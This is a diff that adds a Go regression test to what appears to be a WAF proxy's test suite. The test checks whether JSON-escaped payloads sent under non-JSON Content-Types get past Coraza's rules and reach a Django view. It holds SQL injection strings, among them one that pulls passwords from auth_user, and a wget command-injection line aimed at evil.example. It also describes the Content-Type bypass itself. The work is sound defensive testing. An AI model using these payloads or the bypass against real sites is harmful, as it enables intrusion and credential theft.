@@ -217,3 +217,53 @@ rate_limits:
 		t.Errorf("OPTIONS: %d of 12 reads served by the view past rl-reads (5/minute burst 5 for GET and HEAD)", served)
 	}
 }
+
+// A view that runs json.loads(request.body) whatever the Content-Type
+// (the test app's /api/echo/, and many plain Django JSON endpoints) reads
+// JSON string escapes: "\t", "\n" and "\/" become the white space and
+// slashes that SQL and shell payloads need. Parapet's README says every
+// body is inspected whatever its Content-Type says; but only a JSON media
+// type gets Coraza's JSON processor. Under text/plain (which the Django
+// profile allows), application/x-www-form-urlencoded or any other type the
+// body is read as a form, escapes and all, and the same payloads that are
+// blocked as application/json reach the view.
+func TestReview1JSONBodyUnderOtherContentTypes(t *testing.T) {
+	d := startDjango(t)
+	cases := []struct{ body, want string }{
+		{`{"q":"x'\tOR\tTRUE--\t"}`, "x'\tOR\tTRUE--\t"},
+		{`{"q":"x'\nUNION\nALL\nSELECT\nNULL--"}`, "x'\nUNION\nALL\nSELECT\nNULL--"},
+		{`{"q":"x'\t||\t(SELECT\tpassword\tFROM\tauth_user)\t||\t'"}`, "x'\t||\t(SELECT\tpassword\tFROM\tauth_user)\t||\t'"},
+		{`{"q":";\twget\thttp:\/\/evil.example\/x"}`, ";\twget\thttp://evil.example/x"},
+	}
+	post := func(contentType, body string) (int, string) {
+		resp, err := http.Post(d.base+"/api/echo/", contentType, strings.NewReader(body))
+		if err != nil {
+			t.Fatal(err)
+		}
+		defer resp.Body.Close()
+		b, _ := io.ReadAll(resp.Body)
+		return resp.StatusCode, string(b)
+	}
+	echoedQ := func(body string) string {
+		var got struct {
+			JSON map[string]string `json:"json"`
+		}
+		_ = json.Unmarshal([]byte(body), &got)
+		return got.JSON["q"]
+	}
+	for _, c := range cases {
+		// As JSON, the CRS sees the decoded string and blocks it.
+		if status, body := post("application/json", c.body); status != http.StatusForbidden {
+			t.Fatalf("%s as application/json: %d %.200s, want 403: the test proves nothing", c.body, status, body)
+		}
+		for _, ct := range []string{"text/plain", "application/x-www-form-urlencoded", "text/plain; charset=utf-8", "application/csp-report"} {
+			status, body := post(ct, c.body)
+			switch {
+			case status == 200 && echoedQ(body) == c.want:
+				t.Errorf("%s as %s: reached the view, which decoded q = %q", c.body, ct, c.want)
+			case status < 400 || status >= 500:
+				t.Errorf("%s as %s: %d %.200s, want a 4xx", c.body, ct, status, body)
+			}
+		}
+	}
+}
